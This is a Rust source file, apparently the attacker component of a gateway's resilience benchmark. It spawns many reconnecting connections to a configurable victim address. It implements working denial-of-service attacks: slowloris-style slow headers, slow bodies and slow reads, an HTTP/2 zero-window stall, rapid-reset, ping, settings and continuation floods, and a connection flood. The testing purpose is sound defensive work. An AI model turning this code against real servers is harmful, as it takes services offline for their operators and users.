//! The attackers: one process with many connections that all do the same, and begin anew when they are cut off.

use std::io;
use std::net::SocketAddr;
use std::process::ExitCode;
use std::time::Duration;

use gateway_tests::raw_h2::{
    self, CANCEL, CONTINUATION, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame, number,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

/// Says to an attacker's process which attack it is.
pub(crate) const ATTACK: &str = "GATEWAY_BENCH_ATTACK";
/// And on whom.
pub(crate) const VICTIM: &str = "GATEWAY_BENCH_VICTIM";
/// And from how many connections.
pub(crate) const CONNECTIONS: &str = "GATEWAY_BENCH_CONNECTIONS";

/// Between two bytes of whoever is slow.
const SLOW: Duration = Duration::from_secs(1);
/// After a connection that could not be made.
const PAUSE: Duration = Duration::from_millis(10);
/// What a client on HTTP/2 says first.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// What each connection of an attack does.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    act: fn() -> Act,
}

/// One connection's doing.
struct Act {
    first: Vec<u8>,
    /// Sent again and again; empty: nothing more is sent.
    then: Box<dyn FnMut() -> Vec<u8> + Send>,
    pause: Duration,
    reads: bool,
    /// Whether the connection is closed after what comes first.
    leaves: bool,
}

pub(crate) const ATTACKS: [Attack; 9] = [
    Attack {
        name: "slow-header",
        act: slow_header,
    },
    Attack {
        name: "slow-body",
        act: slow_body,
    },
    Attack {
        name: "slow-read",
        act: slow_read,
    },
    Attack {
        name: "zero-window",
        act: zero_window,
    },
    Attack {
        name: "rapid-reset",
        act: rapid_reset,
    },
    Attack {
        name: "ping-flood",
        act: ping_flood,
    },
    Attack {
        name: "settings-flood",
        act: settings_flood,
    },
    Attack {
        name: "continuation-flood",
        act: continuation_flood,
    },
    Attack {
        name: "connection-flood",
        act: connection_flood,
    },
];

impl Act {
    fn new(first: impl Into<Vec<u8>>) -> Self {
        Self {
            first: first.into(),
            then: Box::new(Vec::new),
            pause: Duration::ZERO,
            reads: true,
            leaves: false,
        }
    }

    fn on_h2(settings: &[u8], first: &[u8]) -> Self {
        Self::new([PREFACE, &frame(SETTINGS, 0, 0, settings), first].concat())
    }

    fn then(self, piece: impl FnMut() -> Vec<u8> + Send + 'static) -> Self {
        Self {
            then: Box::new(piece),
            ..self
        }
    }
}

fn slow_header() -> Act {
    let act = Act::new("GET /attacked/ HTTP/1.1\r\nhost: a\r\nx-slow: ");
    Act {
        pause: SLOW,
        ..act.then(|| b"x".to_vec())
    }
}

fn slow_body() -> Act {
    let act = Act::new("POST /attacked/ HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n");
    Act {
        pause: SLOW,
        ..act.then(|| b"x".to_vec())
    }
}

fn slow_read() -> Act {
    let act = Act::new("GET /attacked/bytes/100000000 HTTP/1.1\r\nhost: a\r\n\r\n");
    Act {
        reads: false,
        ..act
    }
}

fn zero_window() -> Act {
    let requests: Vec<u8> = (0..100)
        .flat_map(|number| raw_h2::get(1 + 2 * number, "/attacked/bytes/1000000"))
        .collect();
    Act::on_h2(&[0, 4, 0, 0, 0, 0], &requests)
}

fn rapid_reset() -> Act {
    let mut next = 1;
    Act::on_h2(&[], &[]).then(move || {
        let streams = (next..).step_by(2).take(50);
        next += 100;
        let taken_back = |stream| {
            [
                raw_h2::get(stream, "/attacked/"),
                number(RST_STREAM, stream, CANCEL),
            ]
        };
        streams.flat_map(taken_back).collect::<Vec<_>>().concat()
    })
}

fn ping_flood() -> Act {
    let pings = frame(PING, 0, 0, b"01234567").repeat(1000);
    Act::on_h2(&[], &[]).then(move || pings.clone())
}

fn settings_flood() -> Act {
    let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(1000);
    Act::on_h2(&[], &[]).then(move || settings.clone())
}

fn continuation_flood() -> Act {
    let more = frame(
        CONTINUATION,
        0,
        1,
        &raw_h2::field("x-more", "a".repeat(4_000)),
    );
    let begin = frame(
        HEADERS,
        END_STREAM,
        1,
        &raw_h2::request("GET", "/attacked/"),
    );
    Act::on_h2(&[], &begin).then(move || more.clone())
}

fn connection_flood() -> Act {
    let act = Act::new("GET /nowhere HTTP/1.1\r\nhost: a\r\n\r\n");
    Act {
        leaves: true,
        ..act
    }
}

/// The process of this role.
pub(crate) fn main() -> ExitCode {
    match attack() {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("{error}");
            ExitCode::FAILURE
        }
    }
}

fn attack() -> io::Result<()> {
    let told = |name: &str| std::env::var(name).map_err(io::Error::other);
    let name = told(ATTACK)?;
    let victim: SocketAddr = told(VICTIM)?.parse().map_err(io::Error::other)?;
    let connections: usize = told(CONNECTIONS)?.parse().map_err(io::Error::other)?;
    let known = ATTACKS.iter().find(|attack| attack.name == name);
    let act = known.ok_or_else(|| io::Error::other("no such attack"))?.act;
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    // As everybody who starts this waits for an address.
    println!("{victim}");
    runtime.block_on(async {
        for _ in 0..connections {
            tokio::spawn(async move {
                loop {
                    if one(victim, act()).await.is_err() {
                        tokio::time::sleep(PAUSE).await;
                    }
                }
            });
            tokio::task::yield_now().await;
        }
        std::future::pending::<()>().await;
    });
    Ok(())
}

/// One connection to its end.
async fn one(victim: SocketAddr, mut act: Act) -> io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    if !act.reads {
        socket.set_recv_buffer_size(4096)?;
    }
    let mut stream: TcpStream = socket.connect(victim).await?;
    stream.write_all(&act.first).await?;
    if act.leaves {
        return Ok(());
    }
    let (mut reading, mut writing) = stream.split();
    let read = async {
        let mut piece = [0; 4096];
        while act.reads && reading.read(&mut piece).await? > 0 {}
        if !act.reads {
            // Until the other side has had enough.
            reading.ready(tokio::io::Interest::ERROR).await?;
        }
        Ok::<_, io::Error>(())
    };
    let write = async {
        loop {
            let piece = (act.then)();
            if piece.is_empty() {
                return std::future::pending::<io::Result<()>>().await;
            }
            writing.write_all(&piece).await?;
            if act.pause.is_zero() {
                tokio::task::yield_now().await;
            } else {
                tokio::time::sleep(act.pause).await;
            }
        }
    };
    tokio::select! {
        read = read => read,
        written = write => written,
    }
}
